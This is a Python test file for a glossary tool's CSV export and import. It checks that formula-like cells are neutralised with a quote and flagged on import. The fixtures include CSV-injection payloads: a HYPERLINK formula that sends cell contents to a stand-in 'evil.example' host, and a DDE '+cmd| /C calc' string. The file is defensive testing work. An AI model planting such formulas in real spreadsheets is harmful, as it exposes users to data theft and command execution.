"""Export and import treat every glossary value and every source cell as hostile."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from shoptalk import load_glossary
from shoptalk.exchange import Defaults, glossary_csv, plan_import, read_source
from shoptalk.exchange.sources import _field_starts

from .conftest import Run

HOSTILE_TERM = """\
name: '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
abbreviation: '@SUM(A1)'
aliases: ['+cmd|'' /C calc''!A0', plain alias]
context: '-2+3'
definition: "\\tTab first, then text."
category: c
owner: "@sales-team"
"""
FIVE_DAYS = """\
name: Quote first
aliases: ["-5 days"]
context: "'=already quoted"
definition: "\\r=1+1"
category: c
owner: ae
"""


def _glossary(root: Path, **terms: str) -> Path:
    (root / "terms").mkdir(parents=True)
    (root / "categories.yml").write_text("- id: c\n  name: C\n", encoding="utf-8")
    for term_id, text in terms.items():
        (root / "terms" / f"{term_id}.yml").write_text(text, encoding="utf-8")
    return root


def test_csv_export_neutralises_every_formula_cell(tmp_path: Path) -> None:
    glossary, problems = load_glossary(_glossary(tmp_path / "g", hostile=HOSTILE_TERM,
                                                 quoted=FIVE_DAYS), tmp_path)
    assert [p.format() for p in problems if p.severity == "error"] == []
    rows = list(csv.DictReader(io.StringIO(glossary_csv(glossary), newline="")))
    assert rows == [
        {"id": "hostile", "name": '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")',
         "abbreviation": "'@SUM(A1)", "aliases": "'+cmd|' /C calc'!A0; plain alias",
         "context": "'-2+3", "definition": "'\tTab first, then text.", "category": "c",
         "owner": "'@sales-team", "status": "approved"},
        # '-' is neutralised even before words; a quote already there gets one more.
        {"id": "quoted", "name": "Quote first", "abbreviation": "", "aliases": "'-5 days",
         "context": "''=already quoted", "definition": "'\r=1+1", "category": "c",
         "owner": "ae", "status": "approved"},
    ]


def test_csv_round_trip_takes_the_quotes_off(tmp_path: Path) -> None:
    glossary, _ = load_glossary(_glossary(tmp_path / "g", hostile=HOSTILE_TERM,
                                          quoted=FIVE_DAYS), tmp_path)
    exported = tmp_path / "export.csv"
    exported.write_text(glossary_csv(glossary), encoding="utf-8", newline="")
    empty, _ = load_glossary(_glossary(tmp_path / "target"), tmp_path)
    plan = plan_import(read_source(exported, "export.csv"), empty, Defaults("c", "ae"), tmp_path)
    assert plan.problems == []  # our own quotes are no formula warning
    for item in plan.planned:
        item.path.write_text(item.text, encoding="utf-8")
    again, _ = load_glossary(tmp_path / "target", tmp_path)
    assert glossary_csv(again) == glossary_csv(glossary)
    assert again.terms["hostile"].context == "-2+3"
    assert again.terms["quoted"].context == "'=already quoted"


def test_import_warns_about_live_formulas_at_their_cell(project: Path, run: Run,
                                                        tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_text(
        "Term,Definition,Synonyms\n"
        'Champion,"=HYPERLINK(""https://evil.example"",""Click"")",@SUM(1+1)\n'
        "Pipeline,'=Kept as text,\n"
        '"Multi\nline",-2+3 deals,+x\n', encoding="utf-8")
    code, out, _ = run("import", str(source), "--category", "buyers", "--owner", "ae",
                       "--dry-run")
    assert code == 0  # a warning: the text is imported as text
    assert [line.partition("in.csv:")[2] for line in out.splitlines() if "in.csv:" in line] == [
        "2:10: warning: '=HYPERLINK(\"https://evil.example\",\"Clic…' starts with '=', so a "
        "spreadsheet would run it as a formula; it is imported as plain text. Check it is the "
        "text you meant, and start the cell with ' to mark it as text [import-formula]",
        "2:59: warning: '@SUM(1+1)' starts with '@', so a spreadsheet would run it as a formula; "
        "it is imported as plain text. Check it is the text you meant, and start the cell "
        "with ' to mark it as text [import-formula]",
        "5:7: warning: '-2+3 deals' starts with '-', so a spreadsheet would run it as a "
        "formula; it is imported as plain text. Check it is the text you meant, and start the "
        "cell with ' to mark it as text [import-formula]",
        "5:18: warning: '+x' starts with '+', so a spreadsheet would run it as a formula; it is "
        "imported as plain text. Check it is the text you meant, and start the cell with ' to "
        "mark it as text [import-formula]",
    ]


@settings(max_examples=60, deadline=None)
@given(rows=st.lists(st.lists(st.text(alphabet='ab ,;"\'\n\r=', max_size=6), min_size=1,
                              max_size=4), min_size=1, max_size=4))
def test_cell_positions_agree_with_the_csv_reader(rows: list[list[str]]) -> None:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL).writerows(rows)
    text = out.getvalue()
    lines = text.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    starts = _field_starts(text, ",")
    reader = csv.reader(io.StringIO(text, newline=""))
    start = 1
    for cells in reader:
        assert len(starts[start]) == len(cells)
        for (line, col), cell in zip(starts[start], cells, strict=True):
            at = "\n".join(lines[line - 1:])[col - 1:]
            assert at.startswith(cell.split("\r")[0].split("\n")[0]) or at.startswith('"')
        start = reader.line_num + 1
